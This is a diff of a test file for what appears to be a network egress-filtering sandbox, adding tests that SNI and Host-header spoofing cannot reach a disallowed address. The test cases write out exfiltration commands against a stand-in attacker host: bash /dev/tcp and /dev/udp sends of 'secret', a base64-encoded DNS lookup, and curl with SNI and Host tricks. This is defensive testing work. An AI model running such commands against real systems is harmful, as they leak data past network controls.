@@ -96,9 +96,7 @@ describe('what it does not name does not leave', () => {
   const cases: [string, string[]][] = [
     ['HTTPS to another name', curl('https://evil.test/')],
     ['HTTPS to an address', curl('-k', `https://${WORLD.evil}/`)],
-    ['an allowed SNI at another address', curl('-k', '--connect-to', `ok.test:443:${WORLD.evil}:443`, 'https://evil.test/')],
     ['plain HTTP', curl(`http://${WORLD.evil}/`)],
-    ['an allowed Host at another address', curl('-H', 'Host: ok.test', `http://${WORLD.evil}/`)],
     ['raw TCP', ['bash', '-c', `exec 3<>/dev/tcp/${WORLD.evil}/9999; echo secret >&3; head -c6 <&3`]],
     ['UDP', ['bash', '-c', `exec 3<>/dev/udp/${WORLD.evil}/9999; echo secret >&3; read -t 2 -u 3 line`]],
     ['a DNS question', ['dig', '+time=2', '+tries=1', 'c2VjcmV0.evil.test']],
@@ -114,6 +112,17 @@ describe('what it does not name does not leave', () => {
     expect(denied.length).toBeGreaterThan(0);
     expect(denied[0]?.pid).toBeGreaterThan(0);
     expect(denied[0]?.exe).toBeTruthy();
+  });
+
+  test.each([
+    ['an allowed SNI', ['--resolve', `ok.test:443:${WORLD.evil}`, 'https://ok.test/'], 'ok.test'],
+    ['an allowed SNI, passed through', ['-k', '--resolve', `ok.test:443:${WORLD.evil}`, 'https://ok.test/'], 'ok.test passthrough'],
+    ['an allowed Host', ['-H', 'Host: ok.test', `http://${WORLD.evil}/`], 'ok.test:80'],
+  ])('%s at an address of the attacker goes to where the name really is', async (_what, args, policy) => {
+    const result = await lab.run(curl(...args), { policy });
+    expect(result.stdout).toContain('hello from ok.test/');
+    expect(reached(result, WORLD.evil)).toEqual([]);
+    expect(reached(result, WORLD.ok).length).toBeGreaterThan(0);
   });
 
   test('IPv6 is refused, IPv6 loopback works', async () => {
